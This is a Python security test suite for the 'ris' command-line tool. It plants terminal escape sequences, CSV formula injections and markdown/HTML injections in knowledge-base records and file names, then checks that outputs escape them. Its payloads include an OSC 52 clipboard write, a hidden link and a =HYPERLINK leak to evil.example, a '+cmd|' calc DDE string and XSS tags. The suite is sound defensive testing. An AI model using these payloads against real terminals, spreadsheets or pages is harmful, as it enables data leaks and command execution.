"""Security suite: untrusted text from records must not reach a terminal or a spreadsheet as code.

A knowledge base of hostile records (as a cloned repository could hold) is read by every
command that prints; the attacks are replayed against the binary, one row per family:

- terminal escapes: OSC 52 (writes the clipboard), OSC 0 (window title), OSC 8 (hidden
  links), `ESC[2J`, cursor moves, SGR, C1 controls and bidi overrides in titles, IDs,
  fields, symptoms, timelines, tags, hot patterns, compliance values and file names must
  reach the text outputs and diagnostics only escaped (`\\e]52;`, `\\u{202E}`); JSON keeps the
  exact text;
- CSV: formulas (`=HYPERLINK`, `+cmd|`, `@SUM`, a leading tab) get a `'`, and a value
  holding CR LF cannot forge a row, in `search --format csv` and `review export --format csv`;
  read back with Python's csv module, cell by cell against the JSON output;
- markdown and HTML export: a lone CR or a `|` cannot split a table row, and no HTML from a
  record stays markup.
"""
import csv, io, json, os, pathlib, re, shutil

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
OSC52 = f"{ESC}]52;c;ZWNobyBwd25lZA=={BEL}"
OSC0 = f"{ESC}]0;owned{BEL}"
OSC8 = f"{ESC}]8;;https://evil.example/{ST}click here{ESC}]8;;{ST}"
CLEAR = f"{ESC}[2J"
UP = f"{ESC}[1A{ESC}[2K"
RED = f"{ESC}[31m"
CSI_C1 = "\x9b2J"  # the C1 form of ESC [
RLO, LRI = "\u202e", "\u2066"

# What must never be printed raw: C0 controls but tab, LF and CR LF; DEL; C1; bidi overrides
# and isolates; the line and paragraph separators.
UNSAFE = re.compile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]|\r(?!\n)")


def yaml(text):
    """A YAML double-quoted scalar: JSON's escapes are YAML's too."""
    return json.dumps(text)


def build(root: pathlib.Path, h):
    """The hostile knowledge base; returns what the records say, exactly."""
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    h.check(h.run(["init"], root).code == 0, "security_output: ris init failed")
    folder = root / "docs" / "06-ris" / "resolutions"
    folder.mkdir(parents=True)
    exact = {
        "terminal_id": f"RIS-901{CLEAR}",
        "terminal_title": f"Deploy {OSC52} failed {OSC8} {RLO}txt.exe {OSC0}{CSI_C1}",
        "csv_title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
        # No comma or quote: only the CR LF can make the old check quote it.
        "csv_reviewer": "Dana\r\n=1+1",
        "md_title": "Row\rsplit | pipe <img src=x onerror=alert(1)> &amp; [link](https://evil.example) |\u0301 <script>alert(2)</script>",
    }
    (folder / "RIS-901-terminal.md").write_text(f"""---
id: {yaml(exact['terminal_id'])}
title: {yaml(exact['terminal_title'])}
created: {yaml('2026-01-05' + UP)}
tags: [{yaml('tag' + RLO + 'gat')}, {yaml('ok' + OSC52)}]
compliance:
  hipaa:
    controls: [{yaml('164.312(b)' + CLEAR)}]
    retention-period: 7-years
    review-frequency: quarterly
    classification: {yaml('internal' + OSC8)}
    access-audit-required: true
---
# Deploy failed

**Severity:** HIGH{UP}
**Status:** RESOLVED
**Owner:** ops{OSC0}team

## Symptom

The deploy failed {OSC52} with {CLEAR} and cursor {UP} moves, bidi {RLO}override {LRI}isolate.
A lone\rCR that would overwrite the line, and {RED}red{ESC}[0m text.

## Root Cause

The {OSC8} link and {CSI_C1} a C1 sequence.

## Timeline

| Time | Event |
|------|-------|
| 09:10{CLEAR} | Event {OSC8} {UP} |

## Hot Pattern Entry

````markdown
## Deploy loop {OSC52}{CLEAR}

**Keywords:** deploy{UP}, loop{RLO}

**Symptom:** Symptom {OSC0}

**Root Cause:** Cause {CLEAR}

**Solution:**
```bash
kubectl rollout undo {UP}{OSC52}
```

**Hit Count:** 3
**Last Used:** 2026-01-05{CLEAR}
````
""")
    (folder / "RIS-902-csv.md").write_text(f"""---
id: RIS-902
title: {yaml(exact['csv_title'])}
created: '2026-01-06'
reviewed-by: {yaml(exact['csv_reviewer'])}
compliance:
  hipaa:
    controls: [{yaml('=HYPERLINK("https://evil.example","x")')}]
    retention-period: 7-years
    review-frequency: quarterly
    classification: {yaml("+cmd|' /C calc'!A0")}
    phi-contains: "-12"
    evidence-type: {yaml(chr(9) + "=1+1")}
---
# Formula

**Severity:** LOW

## Symptom

@SUM(1+1)*cmd|' /C calc'!A0 and -2+3 in the symptom.

---

**Sign-Off:** @SUM(1+1)*cmd|' /C calc'!A0
""")
    (folder / "RIS-903-markdown.md").write_text(f"""---
id: RIS-903
title: {yaml(exact['md_title'])}
created: '2026-01-07'
reviewed-by: {yaml('a|b' + chr(13) + '| forged | cells |')}
compliance:
  soc2:
    controls: [CC7.3]
    retention-period: 7-years
    review-frequency: annual
---
# Markdown

**Severity:** LOW
""")
    # A file name is text from the repository too: escapes, and a CR LF that forges a CSV row.
    (folder / f"RIS-904-{ESC}]0;owned{BEL}name.md").write_text("# RIS-904: Named by the file\n\n**Severity:** LOW\n")
    (folder / "RIS-905-\r\n=3+3.md").write_text("# RIS-905: Formula by file name\n\n**Severity:** LOW\n")
    hot = root / ".claude" / "memory"
    hot.mkdir(parents=True)
    (hot / "hot-patterns.md").write_text(f"""# Hot Patterns

## Token expired {OSC52}{RLO}

**Keywords:** token{CLEAR}, expired
**Symptom:** denied {UP}
**Root Cause:** cached {OSC8}
**Solution:** log in again {OSC0}
**Related:** RIS-901
**Hit Count:** 1
**Last Used:** 2026-01-02
""")
    return exact


def raw_unsafe(text):
    """The first character that must never be printed raw, as a repr, or None."""
    found = UNSAFE.search(text)
    return repr(found.group(0)) if found else None


def terminal(h, root, exact):
    commands = [
        ["index"], ["search", "deploy"], ["search", "token"], ["list"], ["show", "RIS-901"], ["show", "RIS-904"],
        ["similar", "RIS-902"], ["parse", "docs"], ["check", "--as-of", "2026-03-31"], ["pattern", "list"],
        ["pattern", "show", "deploy loop"], ["pattern", "show", "token expired"], ["show", "RIS-9"],
        ["audit", "log"],  # the reads of RIS-901 above, logged with its ID and path
    ]
    leaks = []
    for args in commands:
        run = h.run(args, root)
        h.check(not run.crashed, f"security_output: {args} crashed: {run.stderr[-300:]}")
        for stream, text in [("stdout", run.stdout), ("stderr", run.stderr)]:
            found = raw_unsafe(text)
            if found:
                leaks.append(f"{' '.join(args)} ({stream}: {found})")
    h.check(not leaks, f"security_output: raw escapes printed by {leaks}")
    shown = h.run(["show", "RIS-901"], root).stdout
    h.check("\\e]52;c;" in shown and "\\u{202E}" in shown, f"security_output: show does not show the escapes: {shown[:400]!r}")
    # JSON is for machines: the exact text, escaped only as JSON escapes.
    listed = json.loads(h.run(["list", "--format", "json"], root).stdout or "[]")
    titles = {item["id"]: item["title"] for item in listed}
    exact_json = titles.get(exact["terminal_id"]) == exact["terminal_title"]
    h.check(exact_json, f"security_output: list --format json changed the text: {titles}")
    return len(commands), {"outputs with a raw escape": len(leaks), "JSON exact": "yes" if exact_json else "no"}


def formula(cell):
    """Whether a spreadsheet would read the cell as a formula (OWASP CSV injection)."""
    value = cell.lstrip(" ")
    if not value or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell):
        return False
    return value[0] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def neutralised(value):
    """The cell ris should write for `value`: a ' before a formula start at the beginning and
    after each ; or tab (past spaces and quotes), where a splitting spreadsheet starts a cell."""
    value = re.sub(r'([;\t][ "]*)([=+\-@\r\n\uff1d\uff0b\uff0d\uff20])', r"\1'\2", value)
    return "'" + value if formula(value) else value


def spreadsheet_csv(h, root, exact):
    problems, formulas, changed = [], 0, 0
    # search: one row per hit, each cell the JSON value (a formula behind a ').
    attempts = forged = 0
    for query in ["formula", "deploy"]:
        attempts += 1
        out = h.run(["search", query, "--format", "csv"], root).stdout
        hits = json.loads(h.run(["search", query, "--format", "json"], root).stdout or "[]")
        rows = list(csv.reader(io.StringIO(out, newline="")))
        formulas += sum(formula(cell) for row in rows for cell in row)
        if len(rows) != len(hits) + 1:
            forged += max(0, len(rows) - 1 - len(hits))
            problems.append(f"search {query}: {len(rows) - 1} CSV rows for {len(hits)} hits")
            continue
        for row, hit in zip(rows[1:], hits):
            expected = [hit["id"], hit["title"], hit["path"], hit["kind"], hit["date"] or "", hit["severity"] or "", hit["status"] or "",
                        f"{hit['score']:.3f}", hit["snippet"]]
            for got, want in zip(row, expected):
                differs = got not in (want, neutralised(want)) and not re.fullmatch(r"-?[0-9.]+", want)
                changed += differs
                if formula(got) or differs:
                    problems.append(f"search {query}: cell {got!r} for {want!r}")
    # review export: same, against the export's own JSON.
    attempts += 1
    out = h.run(["review", "export", "--quarter", "2026-Q1", "--format", "csv"], root).stdout
    export = json.loads(h.run(["review", "export", "--quarter", "2026-Q1", "--format", "json"], root).stdout or "{}")
    records = export.get("records", []) + export.get("kbArticles", [])  # the CSV's rows: records, then articles
    rows = list(csv.reader(io.StringIO(out, newline="")))
    formulas += sum(formula(cell) for row in rows for cell in row)
    keys = ["id", "title", "path", "frameworks", "controls", "classification", "phiClass", "encryptionRequired", "accessAuditRequired",
            "evidenceType", "retentionPeriod", "retentionUntil", "retentionState", "reviewFrequency", "lastReviewed", "reviewedBy",
            "nextDue", "reviewState", "signOff", "findings", "kind", "sha256"]
    if len(rows) != len(records) + 1 or any(len(row) != len(keys) for row in rows):
        forged += max(0, len(rows) - 1 - len(records))
        problems.append(f"review export: {len(rows) - 1} CSV rows of {sorted({len(r) for r in rows})} cells for {len(records)} records")
    else:
        for row, record in zip(rows[1:], records):
            for got, key in zip(row, keys):
                value = record[key]
                want = "; ".join(value) if isinstance(value, list) else str(value).lower() if isinstance(value, bool) else str(value)
                changed += got not in (want, neutralised(want))
                if formula(got) or got not in (want, neutralised(want)):
                    problems.append(f"review export {record['id']}.{key}: cell {got!r} for {want!r}")
    h.check(not problems, f"security_output: CSV: {problems[:6]}")
    return attempts, {"forged rows": forged, "formula cells": formulas, "cells not the JSON value": changed}


def markdown_html(h, root, exact):
    problems = []
    md = h.run(["review", "export", "--quarter", "2026-Q1", "--format", "md"], root).stdout
    records = json.loads(h.run(["review", "export", "--quarter", "2026-Q1", "--format", "json"], root).stdout or "{}").get("records", [])
    # The records table: header, delimiter, one line per record; every line with the header's cell count.
    section = md.split("\n## Records\n", 1)[-1].split("\n## ", 1)[0]
    lines = [line for line in re.split(r"\r\n|\r|\n", section) if line.strip()]
    if len(lines) != len(records) + 2:
        problems.append(f"markdown: {len(lines) - 2} table lines for {len(records)} records")
    def cells(line):
        """The unescaped `|` of a table line, as a GFM parser splits it."""
        count, escaped = 0, False
        for character in line:
            count += character == "|" and not escaped
            escaped = character == "\\" and not escaped
        return count

    if any(cells(line) != cells(lines[0]) for line in lines):
        problems.append("markdown: a row with more or fewer cells than the header")
    if re.search(r"<(img|script)", md, re.I):
        problems.append("markdown: raw HTML from a record")
    if raw_unsafe(md):
        problems.append(f"markdown: raw {raw_unsafe(md)}")
    page = h.run(["review", "export", "--quarter", "2026-Q1", "--format", "html"], root).stdout
    if re.search(r"<(img|script)", page, re.I):
        problems.append("html: raw HTML from a record")
    if raw_unsafe(page):
        problems.append(f"html: raw {raw_unsafe(page)}")
    h.check(not problems, f"security_output: markdown/HTML: {problems}")
    return 2, {"problems (split rows, raw HTML, raw escapes)": len(problems)}


def run(h):
    root = h.scratch / "security-output"
    exact = build(root, h)
    for family, attack, function in [
        ("Terminal escapes from records", "OSC 52/0/8, ESC[2J, cursor moves, SGR, C1 CSI and bidi overrides in IDs, titles, fields, "
         "symptoms, timelines, tags, hot patterns, compliance values and a file name; 14 commands, audit log included", terminal),
        ("CSV injection from records", "=HYPERLINK, +cmd|, @SUM, a leading tab and a CR LF row forgery; search and review export "
         "CSV read back with Python's csv module, cell by cell against JSON", spreadsheet_csv),
        ("Markdown and HTML injection from records", "a lone CR, | and |+combining mark, <img onerror>, <script>, links, escapes "
         "in the review export (md, html)", markdown_html),
    ]:
        times, held = function(h, root, exact)
        h.row("security", family, attack, times, held)
